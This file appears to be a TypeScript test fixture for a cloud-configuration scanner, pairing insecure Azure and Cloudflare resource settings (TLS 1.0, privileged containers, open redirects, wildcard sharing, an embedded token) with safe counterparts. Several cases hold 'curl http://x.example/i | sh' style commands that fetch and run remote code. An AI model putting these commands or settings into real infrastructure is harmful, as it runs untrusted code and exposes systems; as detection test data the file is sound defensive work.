import type { CloudCase } from "../../clouds/build.ts";
import { azure, casesOf, cloudflare } from "../../clouds/build.ts";

const RAW = "https://raw.githubusercontent.com/a/b/main/i.sh";
const STORED = "https://example0account.blob.core.windows.net/scripts/i.sh";
const extension = (settings: object) =>
  azure("compute:VirtualMachineExtension", {
    publisher: "Microsoft.Azure.Extensions",
    type: "CustomScript",
    settings,
  });
const ruleset = (phase: string, rule: object) => cloudflare("ruleset", { kind: "zone", phase, rules: [rule] });
const redirect = (targetUrl: object) =>
  ruleset("http_request_dynamic_redirect", {
    action: "redirect",
    expression: "true",
    actionParameters: { fromValue: { targetUrl } },
  });
const managed = (actionParameters: object) =>
  ruleset("http_request_firewall_managed", {
    action: "execute",
    expression: "true",
    actionParameters: { id: "efb7b8c949ac4650a09736fc376e9aee", ...actionParameters },
  });
const SCRIPT = { azCliVersion: "2.60.0", retentionInterval: "P1D" };
const FETCHED = ["sh", "-c", "curl http://x.example/i | sh"];

/** What a second attack got past the rules on clouds. */
export const dangerousClouds: readonly CloudCase[] = [
  ...casesOf("azure", {
    "a front door over plain HTTP": azure("cdn:Route", { httpsRedirect: "Disabled", forwardingProtocol: "HttpOnly" }),
    "an old protocol at a gateway": azure("network:ApplicationGateway", {
      sslPolicy: { minProtocolVersion: "TLSv1_0" },
    }),
    "a private link for every subscription": azure("network:PrivateLinkService", {
      visibility: { subscriptions: ["*"] },
      autoApproval: { subscriptions: ["*"] },
    }),
    "a gallery for everybody": azure("compute:Gallery", { sharingProfile: { permissions: "Community" } }),
    "a script of somebody's repository": extension({ fileUris: [RAW], commandToExecute: "bash i.sh" }),
    "a command by its address": azure("compute:VirtualMachineRunCommandByVirtualMachine", {
      source: { scriptUri: "https://x.example/i.sh" },
    }),
    "a script of a deployment that fetches another": azure("resources:DeploymentScript", {
      ...SCRIPT,
      kind: "AzureCLI",
      scriptContent: "curl http://x.example/i | bash",
    }),
    "a script of a deployment by its address": azure("resources:AzureCliScript", { ...SCRIPT, primaryScriptUri: RAW }),
    "a template by its address": azure("resources:Deployment", { properties: { templateLink: { uri: RAW } } }),
    "a runbook by its address": azure("automation:Runbook", { publishContentLink: { uri: RAW } }),
    "an extension of a machine elsewhere": azure("hybridcompute:MachineExtension", {
      properties: { type: "CustomScript", settings: { commandToExecute: "curl http://x.example/i | sh" } },
    }),
    "a privileged container": azure("containerinstance:ContainerGroup", {
      containers: [{ name: "a", image: "a", securityContext: { privileged: true } }],
    }),
    "a container that runs a download": azure("containerinstance:ContainerGroup", {
      containers: [{ name: "a", image: "a", command: FETCHED }],
    }),
    "a job that runs a download": azure("app:Job", {
      template: { containers: [{ name: "a", image: "a", command: FETCHED }] },
    }),
    "old protocols, one by one": azure("apimanagement:ApiManagementService", {
      customProperties: { "Microsoft.WindowsAzure.ApiManagement.Gateway.Security.Protocols.Tls10": "True" },
    }),
    "events over plain HTTP": azure("eventgrid:EventSubscription", {
      destination: { endpointType: "WebHook", endpointUrl: "http://x.example/hook" },
    }),
    "a share for everybody": azure("netapp:Volume", { exportPolicy: { rules: [{ allowedClients: "0.0.0.0/0" }] } }),
  }),
  ...casesOf("cloudflare", {
    "a firewall that only watches": managed({ overrides: { action: "log" } }),
    "a redirect to wherever the address says": redirect({
      expression: 'concat("http://", http.request.uri.args["to"][0])',
    }),
    "a super administrator": cloudflare("accountMember", {
      email: "x@example.com",
      roles: ["33666b9c79b9a5273fc7344ff42f953d"],
    }),
    "a secret among values": cloudflare("workersKv", {
      keyName: "token",
      value: ["9f8Q2hVx7LmZ4tRk", "1PwB6cYd3NsJ0gEa"].join(""),
    }),
  }),
];

/** Their neighbours that do no harm. */
export const harmlessClouds: readonly CloudCase[] = casesOf(undefined, {
  "a front door over HTTPS": azure("cdn:Route", { httpsRedirect: "Enabled", forwardingProtocol: "HttpsOnly" }),
  "a new protocol at a gateway": azure("network:ApplicationGateway", { sslPolicy: { minProtocolVersion: "TLSv1_2" } }),
  "a private link for one subscription": azure("network:PrivateLinkService", {
    visibility: { subscriptions: ["00000000-0000-0000-0000-000000000001"] },
  }),
  "a gallery for groups": azure("compute:Gallery", { sharingProfile: { permissions: "Groups" } }),
  "a script of a storage account": extension({ fileUris: [STORED], commandToExecute: "bash i.sh" }),
  "a script of a deployment": azure("resources:AzureCliScript", { ...SCRIPT, scriptContent: "az account show" }),
  "a template with its own text": azure("resources:Deployment", { properties: { template: { resources: [] } } }),
  "a runbook with its checksum": azure("automation:Runbook", {
    publishContentLink: { uri: RAW, contentHash: { algorithm: "SHA256", value: "ab" } },
  }),
  "a container with its command": azure("containerinstance:ContainerGroup", {
    containers: [
      { name: "a", image: "a", command: ["app", "--listen", ":8080"], securityContext: { privileged: false } },
    ],
  }),
  "a new protocol": azure("apimanagement:ApiManagementService", {
    customProperties: { "Microsoft.WindowsAzure.ApiManagement.Gateway.Security.Protocols.Tls10": "False" },
  }),
  "events over HTTPS": azure("eventgrid:EventSubscription", {
    destination: { endpointType: "WebHook", endpointUrl: "https://x.example/hook" },
  }),
  "a share for the network": azure("netapp:Volume", { exportPolicy: { rules: [{ allowedClients: "10.0.0.0/24" }] } }),
  "a firewall that blocks": managed({}),
  "a redirect within the site": redirect({ expression: 'concat("https://example.com", http.request.uri.path)' }),
  "a member for names": cloudflare("accountMember", {
    email: "x@example.com",
    roles: ["069fe803647ed3609e93d041d5df6050"],
  }),
  "a value": cloudflare("workersKv", { keyName: "greeting", value: "hello" }),
});
